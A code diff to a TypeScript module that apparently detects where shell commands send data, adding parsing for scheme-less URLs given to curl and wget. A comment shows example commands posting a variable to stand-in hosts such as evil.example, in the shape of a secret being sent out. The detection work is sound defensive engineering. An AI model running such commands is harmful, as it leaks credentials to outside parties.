@@ -40,6 +40,8 @@ const ITEM_CLIENTS = new Set(['http', 'https', 'xh', 'xhs', 'curlie', 'restish',
 /** Options naming the host a client connects to (`psql -h`, `mosquitto_pub -h`, `nats -s`, `swaks --server`). */
 const HOST_OPTIONS = new Set(['-h', '--host', '-s', '--server', '-H', '--to', '-b', '--broker', '--brokers']);
 const HOST_SHAPE = /^(?:[^@\s/'"$]+@)?((?:[a-z0-9](?:[a-z0-9-]*[a-z0-9])?\.)+[a-z]{2,}|\d{1,3}(?:\.\d{1,3}){3}|localhost)(?::\d+)?$/i;
+/** A host, with a port and a path, written without a scheme (`x.example/collect`). */
+const SCHEMELESS_URL = /^((?:[a-z0-9](?:[a-z0-9-]*[a-z0-9])?\.)+[a-z]{2,}|\d{1,3}(?:\.\d{1,3}){3})(?::\d+)?(?:[/?#]\S*)?$/i;
 /** A loopback host: the developer's own machine. */
 const LOOPBACK = /^(localhost|127(?:\.\d{1,3}){3}|\[::1\]|::1|0\.0\.0\.0|[a-z0-9-]+\.localhost|host\.docker\.internal)$/i;
 /** Hosts that serve a database over HTTP (Neon's SQL endpoint, Upstash's REST, Turso's pipeline): a connection secret belongs there. */
@@ -83,6 +85,12 @@ function destinationsOf(inv: Invocation): Destination[] {
     if (host) out.push({ host: host.toLowerCase() });
   }
   // A registry login's host operand; npm's per-registry setting (`//host/:_authToken`), sent to that host by every later install.
+  // `curl -d "$T" x.example/collect`, `wget --post-data=$T evil.example`: a URL operand without a scheme is http:// (round 6).
+  if (out.length === 0 && (inv.name === 'curl' || inv.name === 'wget')) {
+    const spec = toolNamed(inv.name);
+    const host = spec ? parsedArgs(inv.args, spec).operands.map((w) => SCHEMELESS_URL.exec(w.text)?.[1]).find((h) => h !== undefined) : undefined;
+    if (host) out.push({ host: host.toLowerCase() });
+  }
   if (out.length === 0 && REGISTRY_LOGINS.includes(inv.name) && positionals(inv.args).includes('login')) {
     const host = positionals(inv.args).map((p) => HOST_SHAPE.exec(p)?.[1]).find((h) => h !== undefined);
     if (host) out.push({ host: host.toLowerCase() });
